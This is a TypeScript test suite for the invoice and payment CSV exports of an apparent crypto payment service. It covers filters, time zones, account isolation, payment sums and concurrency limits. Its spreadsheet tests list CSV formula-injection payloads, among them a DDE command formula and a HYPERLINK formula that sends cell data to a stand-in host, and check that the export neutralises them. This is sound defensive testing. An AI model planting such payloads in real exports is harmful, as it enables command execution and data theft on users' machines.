import { once } from 'node:events';
import { get, type IncomingMessage } from 'node:http';
import { Client } from 'pg';
import { Chit, USDC } from '../support/app/chit';
import { createInvoice, createMerchant, type Merchant, signInAdmin } from '../support/app/factories';
import { loadProduct } from '../support/app/product';
import { SETTINGS } from '../support/app/settings';
import { moreInvoices } from '../support/database/more-invoices';
import { type CsvFile, readCsv } from '../support/http/csv';
import { NAUGHTY_STRINGS } from '../support/http/naughty-values';
import { documented } from '../support/http/openapi';
import { until } from '../support/until';

/** Number and length of notes that do not fit into the buffers of the server, the client and both kernels. */
const MANY = 2_500;
const NOTE_LENGTH = 12_000;

const INVOICES = '/export/invoices.csv';
const PAYMENTS = '/export/payments.csv';

const FORMULAS = [
  ...['=1+1', '+1', '-1', '@SUM(1)', '\t=1', '\r=1', '\n=1', ' =1', '\u00a0=1', '"=1', "'=1", '"" =1'],
  ...['＝1', '＋1', '－1', '＠1', '﹦1', '\u200b=1', '\ufeff=1', '\x01=1', '−1', '“=1'],
  ...["=cmd|' /C calc'!A0", '=HYPERLINK("https://other.test/?"&A1)'],
];

/** Filters of the list of invoices. */
const FILTERS = [
  ...['', 'order=ASC', 'status=paid', 'status=created', 'customer_id=listed', 'network=ARB_SEPOLIA'],
  ...['start_date=2030-01-01', 'end_date=2030-01-01', `token_address=${USDC.token_address}`],
  'amount_from=1&amount_to=100',
];

/** Converts decimal text to millionths. */
function millionths(text = ''): bigint {
  const [whole = '', fraction = ''] = text.split('.');
  return BigInt(whole + fraction.padEnd(6, '0'));
}

describe('An export', () => {
  let chit: Chit;
  let merchant: Merchant;
  /** Has many invoices with long notes. */
  let large: Merchant;
  let adminToken: string;

  beforeAll(async () => {
    chit = await Chit.start({ ROLES: 'api' });
    adminToken = (await signInAdmin(chit)).accessToken;
    [merchant, large] = [await createMerchant(chit), await createMerchant(chit)];
    const { uuid } = await createInvoice(chit, large);
    await moreInvoices(chit.database, uuid, { count: MANY - 1, time: '1 hour' });
    const note = "UPDATE invoices SET note = repeat('x', $1) WHERE user_uuid = $2";
    await chit.database.query(note, [NOTE_LENGTH, large.uuid]);
  });
  afterAll(() => chit.stop());

  /** Downloads a file and checks it against the OpenAPI document. */
  async function download(path: string, as = merchant.accessToken): Promise<CsvFile> {
    const { status, body } = await documented(chit)('GET', path, { as });
    if (status !== 200) throw new Error(`${status}: ${JSON.stringify(body)}`);
    return readCsv(body);
  }

  const refusal = async (path: string, as = merchant.accessToken) => {
    const { status, body } = await documented(chit)('GET', path, { as });
    return { status, message: body.message };
  };

  /** Returns one column of a file. */
  const cells = async (path: string, column: string, as?: string) =>
    (await download(path, as)).rows.map((row) => row[column]);

  /** Starts a download and stops reading after its head. */
  async function begin(as = large.accessToken, path = INVOICES, url = chit.url): Promise<IncomingMessage> {
    const request = get(url + path, { headers: { authorization: `Bearer ${as}` } });
    const [response] = await once(request, 'response');
    response.on('error', () => {});
    return response.pause();
  }

  async function textOf(response: IncomingMessage): Promise<string> {
    const chunks: Buffer[] = [];
    for await (const chunk of response) chunks.push(chunk);
    return Buffer.concat(chunks).toString();
  }

  /** Waits until no connection of the database belongs to an export. */
  const allEnded = () =>
    until(async () => {
      const running = await exportBackends();
      return running.length === 0;
    });

  const exportBackends = () =>
    chit.database.query<{ pid: number }>(
      `SELECT pid FROM pg_stat_activity WHERE datname = current_database() AND xact_start IS NOT NULL
       AND pid <> pg_backend_pid() AND query ~ 'snapshot_rows'`,
    );

  describe('of invoices', () => {
    it('has the values of each invoice, exactly as the API returns them', async () => {
      const invoice = await createInvoice(chit, merchant, { customer_id: 'exact', amount: 0.1 });
      const { columns, rows } = await download(`${INVOICES}?customer_id=exact`);
      expect(rows).toHaveLength(1);
      const shared = columns.filter((column) => column in invoice && invoice[column] !== null);
      expect(shared.length).toBeGreaterThan(10);
      // Times in the file have the offset of its time zone.
      const exact = (value: unknown, column: string) =>
        column.endsWith('_on') ? new Date(String(value)).toISOString() : String(value);
      for (const column of shared)
        expect(exact(rows[0]?.[column], column)).toBe(exact(invoice[column], column));
      expect(rows[0]).toMatchObject({ token: 'USDC', fee_amount: '0.001', amount_received: '0', hash: '' });
    });

    it.each([
      [18, '123456789012345678.000000000000000001'],
      [36, '1.000000000000000000000000000000000001'],
      [0, '900719925474099300001'],
    ])('keeps all digits of a token with %i decimals', async (decimals, amount) => {
      const address = `0x${String(decimals).padStart(40, '1')}`;
      const body = { address, network: USDC.network, name: 'Exact', symbol: 'EXACT', decimals };
      const create = `mutation ($input: CreateTokenInput!) { createToken(input: $input) { uuid } }`;
      expect((await chit.graphql(create, { input: body }, adminToken)).body.errors).toBeUndefined();
      const { body: created } = await chit.graphql(
        `mutation ($input: CreateInvoiceInput!) { createInvoice(input: $input) { uuid feeAmount } }`,
        { input: { amount, tokenAddress: address, network: USDC.network } },
        merchant.accessToken,
      );
      const { uuid, feeAmount } = created.data.createInvoice;
      const { rows } = await download(`${INVOICES}?uuid=${uuid}&columns=amount,fee_amount`);
      expect(rows).toEqual([{ amount, fee_amount: feeAmount }]);
    });

    it('has the chosen columns in their order', async () => {
      await createInvoice(chit, merchant, { customer_id: 'chosen' });
      expect(await download(`${INVOICES}?customer_id=chosen&columns=token,amount,customer_id`)).toEqual({
        columns: ['token', 'amount', 'customer_id'],
        rows: [{ token: 'USDC', amount: '12.5', customer_id: 'chosen' }],
      });
    });

    it('selects the same invoices as the list, in the same order', async () => {
      const shop = await createMerchant(chit);
      await createInvoice(chit, shop, { customer_id: 'listed' });
      const { uuid } = await createInvoice(chit, shop);
      await chit.rest('PATCH', `/invoice/${uuid}`, { as: adminToken, body: { status: 'paid' } });
      for (const query of FILTERS) {
        const { body } = await chit.rest('GET', `/invoice?${query}`, { as: shop.accessToken });
        const listed = body.data.map((invoice: { uuid: string }) => invoice.uuid);
        expect({ query, uuids: await cells(`${INVOICES}?${query}`, 'uuid', shop.accessToken) }).toEqual({
          query,
          uuids: listed,
        });
      }
    });

    it.each([
      ['columns=uuid,nothing', '[columns] is not valid'],
      ['columns=uuid,uuid', '[columns] is not valid'],
      ['columns=', '[columns] is not valid'],
      ['time_zone=Mars/Olympus', '[time_zone] is not valid'],
      ['time_zone=%2B01:00', '[time_zone] is not valid'],
      ['bom=yes', '[bom] is not valid'],
      ['status=open', '[status] is not valid'],
      ['user_uuid=me', '[user_uuid] is not valid'],
    ])('is refused with %s', async (query, problem) => {
      const { status, message } = await refusal(`${INVOICES}?${query}`);
      expect([status, message[0]]).toEqual([400, problem]);
    });

    it('is a file to download, at the short path too', async () => {
      for (const path of [INVOICES, `/api/v1${INVOICES}`]) {
        const { headers } = await chit.fetch('GET', `${path}?columns=uuid`, { as: merchant.accessToken });
        expect(headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
        const today = new Date().toISOString().slice(0, 10);
        expect(headers.get('content-disposition')).toBe(`attachment; filename="invoices-${today}.csv"`);
      }
    });

    it('sends only the head in response to HEAD', async () => {
      const { status, body } = await chit.rest('HEAD', INVOICES, { as: large.accessToken });
      expect([status, body]).toEqual([200, '']);
      await allEnded();
    });
  });

  describe('for a spreadsheet', () => {
    it('starts with a byte order mark on request only', async () => {
      const bytes = async (query: string) => {
        const response = await fetch(`${chit.url}${INVOICES}?columns=uuid${query}`, {
          headers: { authorization: `Bearer ${merchant.accessToken}` },
        });
        return Buffer.from(await response.arrayBuffer())
          .subarray(0, 4)
          .toString('latin1');
      };
      expect(await bytes('')).toBe('"uui');
      expect(await bytes('&bom=true')).toBe('\xef\xbb\xbf"');
    });

    it('does not execute text that may be a formula', async () => {
      const shop = await createMerchant(chit);
      for (const text of FORMULAS) await createInvoice(chit, shop, { customer_id: text, note: text });
      const { rows } = await download(`${INVOICES}?order=ASC&columns=customer_id,note`, shop.accessToken);
      const safe = FORMULAS.map((text) => `'${text.replace(/^[\t\r\n](?==)/, "$&'")}`);
      expect(rows).toEqual(safe.map((text) => ({ customer_id: text, note: text })));
    });

    it('leaves all other text as it is', async () => {
      const shop = await createMerchant(chit);
      const isStorable = (text: string) => !text.includes('\0') && text.isWellFormed() && text.length <= 500;
      const texts = [...NAUGHTY_STRINGS, 'a=1', '1-2', 'line\r\nline', 'a,b;c\td', '"quoted"'].filter(
        isStorable,
      );
      for (const note of texts) await createInvoice(chit, shop, { note });
      const notes = await cells(`${INVOICES}?order=ASC`, 'note', shop.accessToken);
      const unmarked = (all: (string | undefined)[]) => all.map((text) => text?.replaceAll("'", ''));
      expect(unmarked(notes)).toEqual(unmarked(texts));
      const marked = notes.filter((note, index) => note !== texts[index]);
      expect(marked.length).toBeLessThan(texts.length / 4);
    });

    it.each([
      ['Europe/Berlin', '2026-03-29T00:59:59.999Z', '2026-03-29T01:59:59.999+01:00'],
      ['Europe/Berlin', '2026-03-29T01:00:00Z', '2026-03-29T03:00:00.000+02:00'],
      ['Europe/Berlin', '2026-10-25T00:30:00Z', '2026-10-25T02:30:00.000+02:00'],
      ['Europe/Berlin', '2026-10-25T01:30:00Z', '2026-10-25T02:30:00.000+01:00'],
      ['America/St_Johns', '2026-01-01T00:00:00Z', '2025-12-31T20:30:00.000-03:30'],
      ['Asia/Kathmandu', '2026-01-01T00:00:00Z', '2026-01-01T05:45:00.000+05:45'],
      ['Etc/GMT+5', '2026-01-01T00:00:00Z', '2025-12-31T19:00:00.000-05:00'],
      ['UTC', '2026-01-01T00:00:00Z', '2026-01-01T00:00:00.000+00:00'],
      // Old short names that the database does not know.
      ['PST', '2026-01-01T00:00:00Z', '2025-12-31T16:00:00.000-08:00'],
      ['BST', '2026-07-01T00:00:00Z', '2026-07-01T06:00:00.000+06:00'],
    ])('has times in %s: %s is %s', async (zone, instant, shown) => {
      const { uuid } = await createInvoice(chit, merchant);
      await chit.database.query('UPDATE invoices SET created_on = $2 WHERE uuid = $1', [uuid, instant]);
      const path = `${INVOICES}?uuid=${uuid}&time_zone=${encodeURIComponent(zone)}`;
      expect(await cells(path, 'created_on')).toEqual([shown]);
    });
  });

  describe('of an account', () => {
    it('has no row of another account', async () => {
      const [shop, stranger] = [await createMerchant(chit), await createMerchant(chit)];
      const { uuid } = await createInvoice(chit, shop);
      await createInvoice(chit, stranger);
      expect(await cells(INVOICES, 'uuid', shop.accessToken)).toEqual([uuid]);
      expect(await cells(`${INVOICES}?uuid=${uuid}`, 'uuid', stranger.accessToken)).toEqual([]);
      expect(await refusal(`${INVOICES}?user_uuid=${shop.uuid}`, stranger.accessToken)).toEqual({
        status: 404,
        message: 'Resource Not Found',
      });
    });

    it('has all rows for an admin, or those of one account', async () => {
      const [shop, other] = [await createMerchant(chit), await createMerchant(chit)];
      const uuids = [(await createInvoice(chit, shop)).uuid, (await createInvoice(chit, other)).uuid];
      const all = await cells(`${INVOICES}?columns=uuid`, 'uuid', adminToken);
      expect(all).toEqual(expect.arrayContaining(uuids));
      expect(await cells(`${INVOICES}?user_uuid=${shop.uuid}`, 'uuid', adminToken)).toEqual([uuids[0]]);
    });
  });

  describe('of payments', () => {
    let shop: Merchant;

    /** Stores a payment of an invoice in base units, as a watcher would. */
    const pay = (invoice: string, hash: string, amount: string, time: string, status = 'confirmed') =>
      chit.database.query(
        `INSERT INTO payments (uuid, invoice_uuid, token_uuid, network, transaction_hash, log_index, from_address, amount, block_number,
           block_hash, block_time, status)
         VALUES (gen_random_uuid(), $1, (SELECT token_uuid FROM invoices WHERE uuid = $1), 'ARB_SEPOLIA', $2, 3, $3, $4, 7, '0xb', $5, $6)`,
        [invoice, hash, merchant.wallet, amount, time, status],
      );

    beforeAll(async () => {
      shop = await createMerchant(chit);
      const first = await createInvoice(chit, shop, { customer_id: 'first' });
      const second = await createInvoice(chit, shop, { customer_id: 'second' });
      await chit.database.query('UPDATE invoices SET fee_recipient = $2 WHERE uuid = $1', [
        first.uuid,
        merchant.wallet,
      ]);
      await pay(first.uuid, '0x1', '10000199', '2026-03-01T12:00:00Z');
      await pay(first.uuid, '0x2', '99', '2026-03-01T23:59:59.999Z');
      await pay(second.uuid, '0x3', '7000001', '2026-03-02T00:00:00Z');
      await pay(second.uuid, '0x4', '5', '2026-03-02T01:00:00Z', 'pending');
      await pay(second.uuid, '0x5', '6', '2026-03-02T02:00:00Z', 'reverted');
    });

    it('has one row per confirmed payment with its fee and what the wallet gets', async () => {
      const columns = 'paid_on,status,amount,fee,net,hash,log_index,customer_id,flushed_on';
      const { rows } = await download(`${PAYMENTS}?order=ASC&columns=${columns}`, shop.accessToken);
      const common = { status: 'confirmed', log_index: '3', flushed_on: '' };
      expect(rows).toEqual([
        {
          ...common,
          paid_on: '2026-03-01T12:00:00.000+00:00',
          amount: '10.000199',
          fee: '0.100001',
          net: '9.900198',
          hash: '0x1',
          customer_id: 'first',
        },
        {
          ...common,
          paid_on: '2026-03-01T23:59:59.999+00:00',
          amount: '0.000099',
          fee: '0',
          net: '0.000099',
          hash: '0x2',
          customer_id: 'first',
        },
        {
          ...common,
          paid_on: '2026-03-02T00:00:00.000+00:00',
          amount: '7.000001',
          fee: '0',
          net: '7.000001',
          hash: '0x3',
          customer_id: 'second',
        },
      ]);
    });

    it('counts days by the clocks of the time zone, by default the one of the account', async () => {
      const hashes = (query: string) => cells(`${PAYMENTS}?order=ASC&${query}`, 'hash', shop.accessToken);
      const days = 'start_date=2026-03-01&end_date=2026-03-01';
      expect(await hashes(`${days}&time_zone=America/New_York`)).toEqual(['0x1', '0x2', '0x3']);
      expect(await hashes(`${days}&time_zone=Asia/Kolkata`)).toEqual(['0x1']);
      const change = 'mutation ($zone: String!) { updateProfile(input: { timeZone: $zone }) { uuid } }';
      await chit.graphql(change, { zone: 'Asia/Kolkata' }, shop.accessToken);
      expect(await hashes(days)).toEqual(['0x1']);
      expect(await cells(`${PAYMENTS}?${days}`, 'paid_on', shop.accessToken)).toEqual([
        '2026-03-01T17:30:00.000+05:30',
      ]);
      await chit.graphql(change, { zone: 'UTC' }, shop.accessToken);
    });

    it.each([
      ['payment_status=pending', ['0x4']],
      ['payment_status=reverted', ['0x5']],
      ['payment_status=any&order=ASC', ['0x1', '0x2', '0x3', '0x4', '0x5']],
      ['customer_id=first', ['0x2', '0x1']],
      ['start_date=2026-03-02', ['0x3']],
      ['end_date=2026-03-01', ['0x2', '0x1']],
      ['start_date=2026-03-01T12:00:01Z&end_date=2026-03-01T23:59:59.999Z', ['0x2']],
    ])('has the payments of %s', async (query, hashes) => {
      expect(await cells(`${PAYMENTS}?${query}`, 'hash', shop.accessToken)).toEqual(hashes);
    });

    it('has a payment as confirmed only once its invoice counts it', async () => {
      const countAs = (counted: string | null) =>
        chit.database.query("UPDATE payments SET counted_as = $1 WHERE transaction_hash = '0x3'", [counted]);
      await countAs('pending');
      const statusOf = async () => {
        const { rows } = await download(`${PAYMENTS}?payment_status=any`, shop.accessToken);
        return rows.find(({ hash }) => hash === '0x3')?.['status'];
      };
      expect(await statusOf()).toBe('pending');
      expect(await cells(PAYMENTS, 'hash', shop.accessToken)).not.toContain('0x3');
      await countAs(null);
      expect(await statusOf()).toBe('confirmed');
    });

    it.each([
      ['in total', '', '/payment/stats/summary'],
      ['of a day', 'start_date=2026-03-01&end_date=2026-03-01', '/payment/stats/volume'],
    ])('adds up to the payment statistics %s', async (_name, query, statistics) => {
      const { rows } = await download(`${PAYMENTS}?${query}`, shop.accessToken);
      const { body } = await chit.rest('GET', `${statistics}?${query}`, { as: shop.accessToken });
      const [figures] = body.data.total_by_token ?? body.data;
      const sum = (column: string) => rows.reduce((total, row) => total + millionths(row[column]), 0n);
      expect(rows).toHaveLength(figures.count);
      expect(sum('amount')).toBe(millionths(figures.received));
      expect(sum('fee')).toBe(millionths(figures.fees));
      expect(sum('net')).toBe(millionths(figures.net));
      expect(sum('overpaid')).toBe(millionths(figures.overpaid));
    });

    it('has no payment of another account', async () => {
      expect((await download(`${PAYMENTS}?payment_status=any`)).rows).toEqual([]);
      expect(await cells(`${PAYMENTS}?user_uuid=${shop.uuid}`, 'hash', adminToken)).toHaveLength(3);
    });
  });

  describe('while it runs', () => {
    afterEach(allEnded);

    it('shows the invoices as they were at its start', async () => {
      const response = await begin(large.accessToken, `${INVOICES}?order=ASC&columns=uuid,customer_id,note`);
      await chit.database.query("UPDATE invoices SET customer_id = 'changed' WHERE user_uuid = $1", [
        large.uuid,
      ]);
      await createInvoice(chit, large);
      const { rows } = readCsv(await textOf(response));
      expect(rows).toHaveLength(MANY);
      expect(rows.filter((row) => row['customer_id'] !== '')).toEqual([]);
      expect(response.complete).toBe(true);
    });

    it('is the only one of its account, with a time to wait for a second one', async () => {
      const first = await begin();
      const { status, headers } = await chit.rest('GET', PAYMENTS, { as: large.accessToken });
      expect([status, Number(headers.get('retry-after'))]).toEqual([429, 30]);
      first.destroy();
    });

    it('waits while the process runs two others, and begins when one of them ends', async () => {
      const [first, second] = [await begin(), await begin(adminToken)];
      const both = [0, 1].map(() => chit.rest('GET', INVOICES, { as: merchant.accessToken }));
      expect((await Promise.race(both)).body.message).toBe('Too many exports are running: try again later');
      second.destroy();
      expect((await Promise.all(both)).map(({ status }) => status).sort()).toEqual([200, 429]);
      first.destroy();
    });

    it('leaves its turn to others when its client disconnects', async () => {
      const [first, second] = [await begin(), await begin(adminToken)];
      const ask = () => {
        const request = get(chit.url + INVOICES, {
          headers: { authorization: `Bearer ${merchant.accessToken}` },
        });
        return { request, refused: once(request, 'response').catch(() => new Promise<never>(() => {})) };
      };
      const both = [ask(), ask()];
      await Promise.race(both.map(({ refused }) => refused));
      for (const { request } of both) request.destroy();
      second.destroy();
      await until(
        async () => (await chit.rest('GET', INVOICES, { as: merchant.accessToken })).status === 200,
      );
      first.destroy();
    });

    it('ends its statement and its transaction when the client disconnects', async () => {
      const response = await begin();
      expect(await exportBackends()).toHaveLength(1);
      response.destroy();
      await allEnded();
    });

    it('ends its statement when the client disconnects before the first row', async () => {
      const locker = new Client(chit.database.url);
      await locker.connect();
      await locker.query('BEGIN; LOCK TABLE tokens');
      const headers = { authorization: `Bearer ${large.accessToken}` };
      const request = get(chit.url + INVOICES, { headers }).on('error', () => {});
      await until(async () => (await exportBackends()).length === 1);
      request.destroy();
      await allEnded();
      await locker.end();
    });

    it('is cut when its client stops reading', async () => {
      const product = loadProduct();
      const listener = await product.listen('127.0.0.1', 0, { stalledMs: 500 });
      const settings = { ...SETTINGS, ROLES: 'api', DATABASE_URL: chit.database.url };
      const config = product.readConfig(settings);
      const app = await product.startApp(config, product.createLogger('silent'), undefined, listener);
      // A busy machine may need longer than the limit for the first line, which cuts the connection too.
      const response = await until(() => begin(large.accessToken, INVOICES, app.url).catch(() => undefined));
      await allEnded();
      await expect(textOf(response)).rejects.toThrow('aborted');
      await app.stop();
    });

    it('is cut recognizably when the database connection is lost', async () => {
      const response = await begin();
      const [backend] = await exportBackends();
      await chit.database.query('SELECT pg_terminate_backend($1)', [backend?.pid]);
      await expect(textOf(response)).rejects.toThrow('aborted');
      expect(response.complete).toBe(false);
    });

    it('is cut recognizably when Chit stops', async () => {
      const response = await begin();
      await chit.restart();
      await expect(textOf(response)).rejects.toThrow('aborted');
      expect(response.complete).toBe(false);
    });
  });
});
